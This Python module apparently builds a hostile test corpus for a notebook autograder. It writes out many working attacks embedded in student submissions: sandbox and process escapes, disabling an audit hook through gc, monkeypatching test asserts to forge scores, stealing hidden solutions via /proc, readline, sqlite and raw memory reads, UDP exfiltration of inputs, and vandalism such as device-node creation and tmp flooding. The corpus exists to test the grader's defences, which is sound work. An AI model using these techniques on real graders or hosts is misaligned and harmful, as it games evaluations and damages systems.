"""The hostile corpus: submissions built from the gradient_descent release, each with the outcome
the grader owes it.

Every case is a real notebook (the release with chosen source in its solution cells, made by
``fill_solutions``) or raw bytes. Its expectation says which statuses are truthful and how its
score relates to a *baseline*: the same code without the attack (``master`` = the master's
answers, ``wrong`` = the master with a wrong sigmoid derivative, ``zeros`` = functions that
answer zeros). "same" means exactly the baseline's per-question scores (the attack is inert);
"at_most" means no question scores above the baseline's.

``order`` places a case in the run: ``first`` (graded before the attacks, e.g. a donor whose code
a later attack tries to find), ``attack`` (the default) or ``last`` (honest bystanders, graded
after the attacks in the same grader session and zygote, who must score full marks).

To add a case for a new class of attack, append an ``nb(...)`` (or ``raw(...)``) call in
:func:`build` with the outcome the grader owes it; the test grades it with the rest.
"""
from __future__ import annotations

import json
import os
import sys
import sysconfig
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from gdkit.submissions import fill_solutions, is_solution_cell, master_answers, release_path

ASSIGNMENT = "gradient_descent"
MARKER = "987654"  # in the command line of every process an attack tries to start
WRONG_Q1 = ("def sigmoid_output_to_derivative(output):\n"
            "    return output * (1 + output)\n")
ZEROS = {
    "sigmoid_output_to_derivative": "def sigmoid_output_to_derivative(output):\n    return np.zeros_like(output)\n",
    "compute_layer_2_delta": "def compute_layer_2_delta(layer_2, y):\n    return np.zeros_like(layer_2)\n",
    "compute_layer_1_delta": ("def compute_layer_1_delta(layer_2_delta, synapse_1, layer_1):\n"
                              "    return np.zeros_like(layer_1)\n"),
    "update_synapses": ("def update_synapses(synapse_0, synapse_1, layer_0, layer_1, layer_1_delta, layer_2_delta,"
                        " alpha):\n    return synapse_0, synapse_1\n"),
    "detect_divergence": "def detect_divergence(errors):\n    return False\n",
}


def planted(root: Path, outdir: Path) -> list[Path]:
    """Files the vandals below try to create: none may exist after grading."""
    return [outdir / "victim" / "pwned", outdir / "victim" / "pwned.db", outdir / "pwned",
            root / "autograder" / ASSIGNMENT / "conftest.py",
            Path(sysconfig.get_paths()["purelib"]) / f"gdkit_hostile_{MARKER}.pth"]


@dataclass
class Case:
    name: str
    kind: str                      # process, forgery, stolen, vandalism, broken, baseline
    statuses: tuple                # truthful statuses for this case
    baseline: str | None = None    # master / wrong / zeros
    relation: str = "same"         # same / at_most / zero
    reason: str = ""               # a phrase the grades.csv reason must contain
    zero_questions: tuple = ()     # questions that must score 0
    kept_questions: tuple = ()     # questions that must score exactly the baseline's
    order: str = "attack"          # first / attack / last (see the module docstring)
    data: bytes = field(default=b"", repr=False)


def _after(answers, name, extra):
    """``answers`` with ``extra`` appended to the cell defining ``name`` (runs at load time)."""
    out = dict(answers)
    out[name] = out[name] + "\n" + extra
    return out


def _with(answers, name, source):
    out = dict(answers)
    out[name] = source
    return out


# Run first by an attack: switch the audit hook off from inside (a cell can reach any object), so
# only the kernel stands in the way. A no-op where the hook is not installed.
HOOK_OFF = ("import gc\n"
            "for _o in gc.get_objects():\n"
            "    if type(_o).__name__ in ('Cage', '_Cage') and hasattr(_o, 'armed'):\n"
            "        _o.armed = False\n")
DONOR_MARKER = "hostile-donor-7f3a"  # in the donor's code only; the thief searches memory for it


def _guarded(attack: str) -> str:
    """``attack`` in try/except, so the rest of the notebook loads: the attack alone must earn nothing."""
    return "try:\n" + "".join("    " + l + "\n" for l in attack.splitlines()) + "except BaseException:\n    pass\n"


def on_the_way_to_python(path: str) -> bool:
    """Whether ``path`` is a folder above the Python installation or the kit a worker may read (a
    venv in /home/USER makes /home a folder of the worker's minimal root: there, empty but for it)."""
    import gdkit
    trees = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix, sys.base_exec_prefix,
                                           os.path.dirname(os.path.dirname(gdkit.__file__)))}
    path = os.path.realpath(path).rstrip("/")
    return any(tree.startswith(path + "/") for tree in trees)


def build(dest: Path | None, *, root: Path, victim_notebook: Path, outdir: Path, udp_port: int = 9) -> list[Case]:
    """Write every case to ``dest/<name>.ipynb`` (nothing when None); returns the cases, baselines first.

    ``udp_port``: a port on 127.0.0.1 where the test listens; no datagram may ever arrive there."""
    release = nbformat.read(release_path(ASSIGNMENT, root), as_version=4)
    master = master_answers(ASSIGNMENT, root)
    wrong = _with(master, "sigmoid_output_to_derivative", WRONG_Q1)
    cases: list[Case] = []

    def nb(name, kind, answers, statuses=("ok",), **kw):
        cases.append(Case(name, kind, statuses, data=nbformat.writes(fill_solutions(release, answers)).encode(), **kw))

    def raw(name, data, statuses, reason):
        cases.append(Case(name, "broken", statuses, relation="zero", reason=reason, data=data))

    nb("base_master", "baseline", master)
    nb("base_wrong", "baseline", wrong)
    nb("base_zeros", "baseline", {**master, **ZEROS})

    # ---- process attacks
    nb("exit_at_import", "process", _after(master, "sigmoid_output_to_derivative", "import os\nos._exit(0)\n"),
       statuses=("crashed",), relation="zero", reason="exit status 0")
    nb("sys_exit_at_import", "process", _after(master, "detect_divergence", "import sys\nsys.exit(0)\n"),
       baseline="master")  # SystemExit only ends its own cell: the functions are already defined
    nb("exit_in_function", "process",
       _with(master, "detect_divergence", "import os\ndef detect_divergence(errors):\n    os._exit(3)\n"),
       statuses=("crashed",), baseline="master", relation="at_most", zero_questions=("q6_detect_divergence",))
    nb("sys_exit_in_function", "process",
       _with(master, "detect_divergence", "import sys\ndef detect_divergence(errors):\n    sys.exit(0)\n"),
       baseline="master", relation="at_most", zero_questions=("q6_detect_divergence",))
    # A cell that runs past the time limit runs again with its def/class/import statements only
    # (nbgrader keeps what an interrupted cell defined): its function is graded, the rest too.
    nb("loop_at_import", "process", _after(master, "detect_divergence", "while True:\n    pass\n"),
       baseline="master")
    nb("sleep_at_import", "process", _after(master, "detect_divergence", "import time\ntime.sleep(10 ** 6)\n"),
       baseline="master")
    stubborn = ("import signal, time\n"
                "for _s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):\n"
                "    signal.signal(_s, signal.SIG_IGN)\n"
                "def update_synapses(*args):\n"
                "    while True:\n"
                "        try:\n"
                "            time.sleep(0.01)\n"
                "        except BaseException:\n"
                "            pass\n")
    nb("loop_ignoring_signals", "process", _with(master, "update_synapses", stubborn),
       statuses=("timeout",), baseline="master", relation="at_most",
       zero_questions=("q4_update_synapses", "q5_convergence"))
    catching = ("import signal\n"
                "def _again(*a):\n"
                "    signal.setitimer(signal.ITIMER_REAL, 0.05)\n"
                "signal.signal(signal.SIGALRM, _again)\n"
                "signal.signal(signal.SIGTERM, _again)\n"
                "signal.signal(signal.SIGINT, _again)\n"
                "def detect_divergence(errors):\n"
                "    while True:\n"
                "        try:\n"
                "            sum(range(10 ** 6))\n"
                "        except BaseException:\n"
                "            pass\n")
    nb("loop_catching_signals", "process", _with(master, "detect_divergence", catching),
       statuses=("timeout",), baseline="master", relation="at_most", zero_questions=("q6_detect_divergence",))
    nb("memory_at_import", "process",
       _after(master, "detect_divergence", "hog = [bytearray(1 << 20) for _ in range(1 << 16)]\n"),
       baseline="master")  # MemoryError ends that cell; what was defined before still counts
    nb("memory_in_function", "process",
       _with(master, "detect_divergence",
             "def detect_divergence(errors):\n    hog = []\n    while True:\n        hog.append(bytearray(16 << 20))\n"),
       statuses=("ok", "memory", "crashed", "timeout"), baseline="master", relation="at_most",
       zero_questions=("q6_detect_divergence",))
    nb("recursion", "process",
       _with(master, "sigmoid_output_to_derivative",
             "def sigmoid_output_to_derivative(output):\n    return sigmoid_output_to_derivative(output)\n"),
       baseline="master", relation="at_most", zero_questions=("q1_sigmoid_derivative",))
    nb("recursion_past_c_stack", "process",
       _with(master, "detect_divergence",
             "import sys\nsys.setrecursionlimit(10 ** 7)\n"
             "def detect_divergence(errors, depth=0):\n    return detect_divergence(errors, depth + 1)\n"),
       statuses=("crashed", "ok", "timeout", "memory"), baseline="master", relation="at_most",
       zero_questions=("q6_detect_divergence",))
    flood = ("import sys, os\n"
             "_block = 'x' * (1 << 20)\n"
             "for _ in range(400):  # 400 MB\n"
             "    try:\n"
             "        {write}\n"
             "    except BaseException:\n"
             "        pass\n")
    nb("flood_stdout", "process", _after(master, "detect_divergence", flood.format(write="sys.stdout.write(_block)")),
       baseline="master")
    nb("flood_stderr", "process", _after(master, "detect_divergence", flood.format(write="os.write(2, _block.encode())")),
       baseline="master")
    nb("flood_in_function", "process",  # slow (50 MB per call) but honest: may run out of time
       _with(master, "detect_divergence", master["detect_divergence"].replace(
           "    values = np.asarray", "    for _ in range(50):\n        try:\n            print('y' * (1 << 20))\n"
                                     "        except BaseException:\n            pass\n    values = np.asarray")),
       statuses=("ok", "timeout"), baseline="master", relation="at_most")
    spawners = {
        "double_fork_setsid": ("import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                               "        os.execv('/bin/sleep', ['sleep', '%s'])\n    os._exit(0)\n" % MARKER),
        "subprocess_setsid": ("import subprocess\nsubprocess.Popen(['sleep', '%s'], start_new_session=True)\n" % MARKER),
        "posixsubprocess_exec": (
            "import _posixsubprocess, os\n_r, _w = os.pipe()\n"
            "_posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'setsid sleep %s & sleep %s'], [b'/bin/sh'], True,"
            " (_w,), None, None, -1, -1, -1, -1, -1, -1, _r, _w, False, True, -1, None, None, -1, -1, None, False)\n"
            % (MARKER, MARKER)),
        "multiprocessing_daemon": ("import multiprocessing, time\n"
                                   "multiprocessing.Process(target=time.sleep, args=(%s,)).start()\n" % MARKER),
    }
    for name, attack in spawners.items():
        # in try/except so the rest of the notebook loads: the attack alone must earn nothing
        guarded = "try:\n" + "".join("    " + l + "\n" for l in attack.splitlines()) + "except BaseException:\n    pass\n"
        nb(name, "process", _after(master, "detect_divergence", guarded), baseline="master")

    # ---- result forgery (on the wrong derivative: no forged point may be earned)
    fake = json.dumps({"score": 100, "tests": [{"name": "q1_sigmoid_derivative", "score": 10, "max_score": 10}]})
    nb("print_fake_results", "forgery",
       _after(wrong, "detect_divergence", f"print({fake!r})\nprint('=' * 20 + ' 24 passed in 0.12s ' + '=' * 20)\n"),
       baseline="wrong", relation="at_most")
    patch_allclose = "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
    nb("patch_allclose_master", "forgery", _after(master, "detect_divergence", patch_allclose), baseline="master")
    nb("patch_allclose_wrong", "forgery", _after(wrong, "detect_divergence", patch_allclose),
       baseline="wrong", relation="at_most")
    nb("patch_testing_wrong", "forgery", _after(wrong, "detect_divergence",
       "import numpy as np\nfor _n in dir(np.testing):\n    if _n.startswith('assert'):\n"
       "        setattr(np.testing, _n, lambda *a, **k: None)\n"), baseline="wrong", relation="at_most")
    nb("patch_math_isclose_wrong", "forgery", _after(wrong, "detect_divergence",
       "import math\nmath.isclose = lambda *a, **k: True\n"), baseline="wrong", relation="at_most")
    nb("patch_array_equal_wrong", "forgery", _after(wrong, "detect_divergence",
       "import numpy as np\nnp.array_equal = lambda *a, **k: True\nnp.array_equiv = lambda *a, **k: True\n"),
       baseline="wrong", relation="at_most")
    nb("patch_shared_modules_wrong", "forgery", _after(wrong, "detect_divergence",
       "import sys, types, builtins\n"
       "_fake = types.ModuleType('gdkit.network')\n"
       "_fake.sigmoid_output_to_derivative = lambda o: o * (1 + o)\n"
       "sys.modules['gdkit'] = types.ModuleType('gdkit')\nsys.modules['gdkit.network'] = _fake\n"
       "builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
       "sys.modules['pytest'] = types.ModuleType('pytest')\n"), statuses=("ok", "crashed"),
       baseline="wrong", relation="at_most")
    nb("lying_array_wrong", "forgery", _with(wrong, "sigmoid_output_to_derivative",
       "class _Liar(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(np.shape(self), bool)\n"
       "    def __sub__(self, other):\n        return np.zeros(np.shape(self))\n"
       "def sigmoid_output_to_derivative(output):\n    return (output * (1 + output)).view(_Liar)\n"),
       baseline="wrong", relation="at_most")

    # ---- stolen answers (fallback: the wrong derivative; stealing must add nothing)
    def stealing(attempt):
        return _with(wrong, "sigmoid_output_to_derivative",
                     "try:\n" + "".join("    " + l + "\n" for l in attempt.splitlines()) +
                     "except BaseException:\n" + "".join("    " + l + "\n" for l in WRONG_Q1.splitlines()))

    nb("import_reference", "stolen", stealing("from gdkit.network import sigmoid_output_to_derivative\n"),
       baseline="wrong", relation="at_most")
    network_py = Path(__import__("gdkit.network").network.__file__).resolve()
    nb("load_reference_by_path", "stolen", stealing(
        "import importlib.util\n"
        f"_spec = importlib.util.spec_from_file_location('ref', {str(network_py)!r})\n"
        "_m = importlib.util.module_from_spec(_spec)\n_spec.loader.exec_module(_m)\n"
        "sigmoid_output_to_derivative = _m.sigmoid_output_to_derivative\n"), baseline="wrong", relation="at_most")
    master_nb = root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    steal_from = ("import json\n"
                  "_src = None\n"
                  "for _p in {paths!r}:\n"
                  "    try:\n"
                  "        _src = open(_p).read()\n"
                  "        break\n"
                  "    except OSError:\n"
                  "        pass\n"
                  "for _c in json.loads(_src)['cells']:\n"
                  "    _s = ''.join(_c['source'])\n"
                  "    if 'def sigmoid_output_to_derivative' in _s:\n"
                  "        exec(_s.replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))\n")
    nb("read_solutions_absolute", "stolen", stealing(steal_from.format(paths=[str(master_nb)])),
       baseline="wrong", relation="at_most")
    rel = f"solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    nb("read_solutions_relative", "stolen", stealing(steal_from.format(paths=[
        rel, "../" + rel, "../../" + rel, "../../../" + rel, "../../../../" + rel,
        "/proc/self/root" + str(master_nb), "/proc/1/root" + str(master_nb),
        "/proc/self/cwd/../../" + rel])), baseline="wrong", relation="at_most")
    nb("read_autograder_dir_fd", "stolen", stealing(
        "import os\n"
        "_fd = os.open('/proc/self', os.O_RDONLY)\n"
        f"_t = os.read(os.open({('root' + str(root / 'autograder' / ASSIGNMENT / 'test_gd_functions.py'))!r},"
        " os.O_RDONLY, dir_fd=_fd), 1 << 20)\n"
        "raise RuntimeError('read the hidden tests')\n"), baseline="wrong", relation="at_most")
    nb("readline_read_solutions", "stolen", stealing(
        # readline reads files in C, without the audit hook's "open" event
        "import readline, json\n"
        f"readline.read_history_file({str(master_nb)!r})\n"
        "_src = '\\n'.join(readline.get_history_item(i) for i in range(1, readline.get_current_history_length() + 1))\n"
        "for _c in json.loads(_src)['cells']:\n"
        "    _s = ''.join(_c['source'])\n"
        "    if 'def sigmoid_output_to_derivative' in _s:\n"
        "        exec(_s.replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))\n"),
       baseline="wrong", relation="at_most")
    # The grader's paths must not be in the worker's memory: finding one "earns" the right answer.
    needles = [str(outdir)[::-1], str(root / "autograder")[::-1]]  # reversed: the cell must not match itself
    nb("gc_walk_paths", "stolen", stealing(
        "import gc\n"
        f"_needles = [n[::-1] for n in {needles!r}]\n"
        "_hits = [r for o in gc.get_objects() for r in gc.get_referents(o)\n"
        "         if isinstance(r, str) and all(r is not n for n in _needles) and any(n in r for n in _needles)]\n"
        "if not _hits:\n"
        "    raise LookupError('no grader path in memory')\n"
        "def sigmoid_output_to_derivative(output):\n"
        "    return output * (1 - output)\n"), baseline="wrong", relation="at_most")
    nb("list_autograder", "stolen", stealing(
        f"import os, glob\n_names = os.listdir({str(root / 'autograder' / ASSIGNMENT)!r})\n"
        "raise RuntimeError(_names)\n"), baseline="wrong", relation="at_most")
    table = ("_TABLE = {}\n"
             "def _remember(x, value):\n"
             "    _TABLE[(np.shape(x), np.asarray(x, float).round(6).tobytes())] = value\n"
             "for _x in (np.array([[0.5, 0.9], [0.1, 0.0]]), np.array([[0.5], [0.8]]), 1 / (1 + np.exp(-X.dot(np.ones((3, 4)))))):\n"
             "    _remember(_x, _x * (1 - _x))\n"
             "def sigmoid_output_to_derivative(output):\n"
             "    key = (np.shape(output), np.asarray(output, float).round(6).tobytes())\n"
             "    return _TABLE.get(key, np.zeros_like(output))\n")
    nb("hardcoded_toy_values", "stolen", _with({**master, **ZEROS}, "sigmoid_output_to_derivative", table),
       baseline="zeros", relation="at_most")
    shape_only = ("def detect_divergence(errors):\n"
                  "    # right for the notebook's own asserts (3-long lists), blind otherwise\n"
                  "    return len(errors) == 3 and errors[-1] > errors[0]\n")
    nb("hardcoded_toy_shapes", "stolen", _with({**master, **ZEROS}, "detect_divergence", shape_only),
       baseline="zeros", relation="at_most")

    # ---- vandalism (each attempt guarded: the honest master must still score exactly the master's)
    targets = [str(victim_notebook), str(outdir / "victim" / "results.json"), str(outdir / "victim" / "record.json"),
               str(outdir / "grades.csv"), str(outdir / "vandal_outdir" / "record.json"),
               str(root / "autograder" / ASSIGNMENT / "test_gd_functions.py"), str(network_py),
               str(Path(json.__file__).resolve())]
    vandal = ("import os, shutil\n"
              "for _p in {targets!r}:\n"
              "    for _attack in (lambda p: open(p, 'w').write('{{}}'), lambda p: open(p, 'a').write('x'),\n"
              "                    os.remove, lambda p: os.rename(p, p + '.bak'), lambda p: os.truncate(p, 0),\n"
              "                    lambda p: os.chmod(p, 0), lambda p: shutil.rmtree(os.path.dirname(p)),\n"
              "                    lambda p: os.symlink(p, 'link'), lambda p: np.save(p, np.zeros(1))):\n"
              "        try:\n"
              "            _attack(_p)\n"
              "        except BaseException:\n"
              "            pass\n")
    nb("vandal_files", "vandalism", _after(master, "detect_divergence", vandal.format(targets=targets)),
       baseline="master")
    nb("vandal_outdir", "vandalism", _after(master, "detect_divergence", (
        "import os\n"
        f"for _d in ({str(outdir)!r}, {str(outdir / 'victim')!r}):\n"
        "    try:\n"
        "        os.mkdir(os.path.join(_d, 'pwned'))\n"
        "    except BaseException:\n"
        "        pass\n"
        "    try:\n"
        "        _fd = os.open(_d, os.O_RDONLY)\n"
        "        os.write(os.open('results.json', os.O_WRONLY | os.O_CREAT, dir_fd=_fd), b'{}')\n"
        "    except BaseException:\n"
        "        pass\n")), baseline="master")
    nb("vandal_python_install", "vandalism", _after(master, "detect_divergence", (
        "import os\n"
        "try:\n"
        "    _fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY)\n"
        "    os.write(os.open('json/__init__.py', os.O_WRONLY | os.O_APPEND, dir_fd=_fd), b'\\nraise SystemExit\\n')\n"
        "except BaseException:\n"
        "    pass\n")), baseline="master")

    # C code writes files without the audit hook's "open" event: readline, sqlite (and ATTACH).
    history_into = ("import readline\n"
                    "readline.add_history('# gdkit hostile corpus')\n"
                    "for _p in {targets!r}:\n"
                    "    try:\n"
                    "        readline.write_history_file(_p)\n"
                    "    except BaseException:\n"
                    "        pass\n")
    nb("readline_history_outdir", "vandalism", _after(master, "detect_divergence", history_into.format(targets=[
        str(outdir / "victim" / "record.json"), str(outdir / "victim" / "results.json"), str(outdir / "grades.csv"),
        str(outdir / "victim" / "pwned")])), baseline="master")
    nb("readline_history_kit", "vandalism", _after(master, "detect_divergence", history_into.format(targets=[
        str(root / "autograder" / ASSIGNMENT / "conftest.py"),
        str(root / "autograder" / ASSIGNMENT / "test_gd_functions.py"),
        str(Path(sysconfig.get_paths()["purelib"]) / f"gdkit_hostile_{MARKER}.pth")])), baseline="master")
    nb("sqlite_outdir", "vandalism", _after(master, "detect_divergence", (
        "import sqlite3\n"
        f"for _p in ({str(outdir / 'victim' / 'pwned.db')!r}, {str(outdir / 'victim' / 'record.json')!r}):\n"
        "    try:\n"
        "        sqlite3.connect(_p).execute('CREATE TABLE t (a)')\n"
        "    except BaseException:\n"
        "        pass\n"
        "try:\n"
        "    _db = sqlite3.connect(':memory:')\n"
        f"    _db.execute('ATTACH DATABASE ? AS x', ({str(outdir / 'pwned')!r},))\n"
        "    _db.execute('CREATE TABLE x.t (a)')\n"
        "    _db.commit()\n"
        "except BaseException:\n"
        "    pass\n")), baseline="master")
    nb("o_trunc_read_only", "vandalism", _after(master, "detect_divergence", (
        "import os\n"
        f"for _p in {[str(outdir / 'victim' / 'record.json'), str(outdir / 'grades.csv'), targets[5]]!r}:\n"
        "    try:\n"
        "        os.close(os.open(_p, os.O_RDONLY | os.O_TRUNC))\n"
        "    except BaseException:\n"
        "        pass\n")), baseline="master")
    # A FIFO in place of the log would block the grader reading it; device nodes open the disk.
    nb("mkfifo_output_log", "vandalism", _after(master, "detect_divergence", (
        "import os\n"
        "try:\n"
        "    os.remove('output.log')\n"
        "    os.mkfifo('output.log')\n"
        "except BaseException:\n"
        "    pass\n")), baseline="master")
    nb("mknod_devices", "vandalism", _after(master, "detect_divergence", (
        "import os, stat\n"
        "for _name, _mode, _dev in (('disk', stat.S_IFBLK, os.makedev(8, 0)), ('mem', stat.S_IFCHR, os.makedev(1, 1)),\n"
        "                           ('pipe', stat.S_IFIFO, 0)):\n"
        "    try:\n"
        "        os.mknod(_name, _mode | 0o666, _dev)\n"
        "        print('made', _name)\n"
        "    except BaseException:\n"
        "        pass\n")), baseline="master")
    # One function that kills its worker costs its own questions, not an unrelated one.
    nb("exit_in_q1_keeps_q6", "process", _with(master, "sigmoid_output_to_derivative",
       "import os\ndef sigmoid_output_to_derivative(output):\n    os._exit(0)\n"),
       statuses=("crashed",), baseline="master", relation="at_most", zero_questions=("q1_sigmoid_derivative",),
       kept_questions=("q6_detect_divergence",))

    # ---- the kernel holds with the audit hook off (each attack switches it off first)
    zygote_attack = HOOK_OFF + (
        "import os, resource\n"
        "_me = os.getpid()\n"
        "for _pid in {os.getppid(), 1, 2, 3} | set(range(1, 4096)):\n"
        "    if _pid in (0, _me):\n"
        "        continue\n"
        "    for _act in (lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3)),\n"
        "                 lambda p: resource.prlimit(p, resource.RLIMIT_AS, (1 << 20, 1 << 20)),\n"
        "                 lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),\n"
        "                 lambda p: os.sched_setaffinity(p, {0}),\n"
        "                 lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0))):\n"
        "        try:\n"
        "            _act(_pid)\n"
        "        except BaseException:\n"
        "            pass\n"
        "for _act in (lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_PGRP, 0, 19)):\n"
        "    try:\n"
        "        _act()\n"
        "    except BaseException:\n"
        "        pass\n")
    nb("zygote_limits_via_ppid", "process", _after(master, "detect_divergence", _guarded(zygote_attack)),
       baseline="master")
    donor = _with(master, "sigmoid_output_to_derivative",
                  f"# {DONOR_MARKER}\n" + master["sigmoid_output_to_derivative"])
    nb("donor_for_heap_thief", "baseline", donor, baseline="master", order="first")
    # Reads its own memory: every object gc knows, and raw pages around them through numpy arrays
    # made over arbitrary addresses (a page the kernel refuses to copy to /dev/null is unmapped).
    heap_thief = HOOK_OFF + (
        "import gc, os, re\n"
        f"_needle = {DONOR_MARKER[::-1]!r}[::-1].encode()\n"
        "_live = [r.encode() for o in gc.get_objects() for r in gc.get_referents(o)\n"
        "         if isinstance(r, str) and _needle.decode() in r]\n"
        "class _At:\n"
        "    def __init__(self, addr, n):\n"
        "        self.__array_interface__ = {'data': (addr, True), 'shape': (n,), 'typestr': '|u1', 'version': 3}\n"
        "_r, _w = os.pipe()  # write(2) copies from the address: EFAULT for an unmapped page\n"
        "def _page_at(addr):\n"
        "    try:\n"
        "        os.write(_w, np.asarray(_At(addr, 4096)))\n"
        "    except OSError:\n"
        "        return None\n"
        "    return os.read(_r, 4096)\n"
        "_regions = {id(_x) >> 20 for _o in gc.get_objects() for _x in [_o] + gc.get_referents(_o)}  # 1 MB each\n"
        "_pages = {(_r2 << 20) + _k * 4096 for _r in _regions for _r2 in (_r - 1, _r, _r + 1) for _k in range(256)}\n"
        "_m = next(filter(None, (re.search(rb'def sigmoid_output_to_derivative\\(output\\):\\n(    [^\\n]*\\n)+', t)\n"
        "                        for t in _live)), None)\n"
        "for _addr in sorted(_pages) if _m is None else ():\n"
        "    _bytes = _page_at(_addr) if _addr > 0 else None\n"
        "    if not _bytes or _needle not in _bytes:\n"
        "        continue\n"
        "    _text = _bytes[_bytes.index(_needle):] + (_page_at(_addr + 4096) or b'')\n"
        "    for _t in (_text, _text.replace(b'\\\\n', b'\\n').replace(b'\\\\\"', b'\"')):  # parsed, or JSON\n"
        "        _m = _m or re.search(rb'def sigmoid_output_to_derivative\\(output\\):\\n(    [^\\n]*\\n)+', _t)\n"
        "    if _m:\n"
        "        break\n"
        "if _m is None:\n"
        "    raise LookupError('nothing of the donor in memory')\n"
        "exec(_m.group(0).decode())\n")
    nb("heap_thief", "stolen", stealing(heap_thief), baseline="wrong", relation="at_most")
    # Hidden inputs out through the network: every call also sends its input over UDP.
    udp = (HOOK_OFF + "import socket\n"
           + master["sigmoid_output_to_derivative"].replace(
               "def sigmoid_output_to_derivative(output):\n",
               "def sigmoid_output_to_derivative(output):\n" + "".join(
                   "    " + l + "\n" for l in _guarded(
                       "_s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                       f"_s.sendto(np.asarray(output).tobytes()[:512], ('127.0.0.1', {udp_port}))\n").splitlines())))
    nb("udp_exfiltration", "stolen", _with(master, "sigmoid_output_to_derivative", udp), baseline="master")
    # Other processes: any sign of one earns the right derivative (so a leak would show in q1).
    probe = HOOK_OFF + (
        "import os\n"
        "_seen = []\n"
        "for _pid in range(1, 32768):\n"
        "    if _pid == os.getpid():\n"
        "        continue\n"
        "    for _ask in (os.getpgid, os.getsid, os.sched_getaffinity, lambda p: os.getpriority(os.PRIO_PROCESS, p)):\n"
        "        try:\n"
        "            _ask(_pid)\n"
        "            _seen.append(_pid)\n"
        "        except OSError:\n"
        "            pass\n"
        "for _path in ('/proc/1/cmdline', '/proc/self/status', '/proc'):\n"
        "    try:\n"
        "        os.listdir(_path) if _path == '/proc' else open(_path).read()\n"
        "        _seen.append(_path)\n"
        "    except OSError:\n"
        "        pass\n"
        "if not _seen:\n"
        "    raise LookupError('no other process in sight')\n"
        "def sigmoid_output_to_derivative(output):\n"
        "    return output * (1 - output)\n")
    nb("other_process_probe", "stolen", stealing(probe), baseline="wrong", relation="at_most")
    # chattr +i: a file the grader (root) could not delete would stay in /tmp.
    nb("immutable_file", "vandalism", _after(master, "detect_divergence", _guarded(HOOK_OFF + (
        "import fcntl, struct\n"
        "for _name in ('locked', 'output.log', '../output.log'):\n"
        "    try:\n"
        "        with open(_name, 'a') as _f:\n"
        "            fcntl.ioctl(_f, 0x40086602, struct.pack('i', 0x10 | 0x20))\n"
        "    except OSError:\n"
        "        pass\n"))), baseline="master")
    nb("tmp_flood", "vandalism", _after(master, "detect_divergence", _guarded(HOOK_OFF + (
        "import os\n"
        "_block = b'x' * (1 << 20)\n"
        "for _dir in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
        "    for _i in range(1500):\n"
        "        try:\n"
        "            with open(os.path.join(_dir, f'flood{_i}'), 'wb') as _f:\n"
        "                _f.write(_block)\n"
        "        except OSError:\n"
        "            break\n"))), baseline="master")
    # Just under each call's timeout, every time: the submission's budget ends it, not the session.
    hog = {name: "import time\n" + source.replace("):\n", "):\n    time.sleep(1.7)\n", 1)
           for name, source in master.items()}
    nb("budget_hog", "process", hog, statuses=("timeout",), baseline="master", relation="at_most")
    kernel_boundary(nb, master, wrong, stealing, root=root, outdir=outdir)

    def flood_errors(n):
        nb_ = fill_solutions(release, master)
        nb_.cells += [nbformat.v4.new_code_cell(f"raise ValueError('e' * {1 << 20})") for _ in range(n)]
        return nbformat.writes(nb_).encode()
    cases.append(Case("load_error_flood", "broken", ("ok",), baseline="master", data=flood_errors(300)))

    def slow_cell():
        nb_ = fill_solutions(release, master)
        sweep = ("import time\n"
                 "for _alpha in (0.001, 0.01, 0.1, 1, 10, 100, 1000):  # a student's own untagged sweep\n"
                 "    time.sleep(100)\n")
        nb_.cells.insert(len(nb_.cells) - 1, nbformat.v4.new_code_cell(sweep))
        return nbformat.writes(nb_).encode()
    cases.append(Case("slow_untagged_cell", "broken", ("ok",), baseline="master", data=slow_cell()))
    for i in range(1, 5):
        nb(f"zz_bystander_{i}", "baseline", master, baseline="master", order="last")

    # ---- broken notebooks
    good = nbformat.writes(fill_solutions(release, master))
    raw("invalid_json", good[: len(good) // 2].encode(), ("invalid-json",), "not valid JSON")
    raw("binary_junk", bytes(range(256)) * 64, ("binary-file",), "binary")
    raw("empty_file", b"", ("empty-file",), "empty")
    future = json.loads(good)
    future["nbformat"] = 5
    raw("nbformat_5", json.dumps(future).encode(), ("unsupported-nbformat",), "not supported")
    raw("not_a_notebook", b'{"hello": "world"}', ("not-a-notebook",), "not a Jupyter notebook")
    # Valid JSON that Python will not parse (an integer over 4,300 digits): the student's broken
    # file, never a grader error regraded for ever.
    raw("integer_5000_digits", good.encode().replace(b'"metadata": {', b'"metadata": {"n": 1' + b"0" * 5000 + b",", 1),
        ("invalid-json",), "digits long")
    raw("non_utf8", good.encode().replace(b"Gradient descent", b"Gradient d\xe9scent\xff", 1), ("not-utf8",), "UTF-8")
    huge = fill_solutions(release, master)
    huge.cells[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="z" * (21 << 20))]
    # outputs are dropped before grading: a file large only because of them is graded as usual
    cases.append(Case("huge_outputs_21mb", "broken", ("ok",), baseline="master", data=nbformat.writes(huge).encode()))
    heavy = fill_solutions(release, master)
    heavy.cells.append(nbformat.v4.new_code_cell("blob = '" + "z" * (3 << 20) + "'\n"))
    raw("huge_code_3mb", nbformat.writes(heavy).encode(), ("too-large",), "MB of code")
    big = fill_solutions(release, master)
    big.cells[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="z" * (18 << 20))]
    cases.append(Case("big_outputs_18mb", "broken", ("ok",), baseline="master", data=nbformat.writes(big).encode()))
    v3 = nbformat.writes(nbformat.convert(fill_solutions(release, master), 3), version=3)
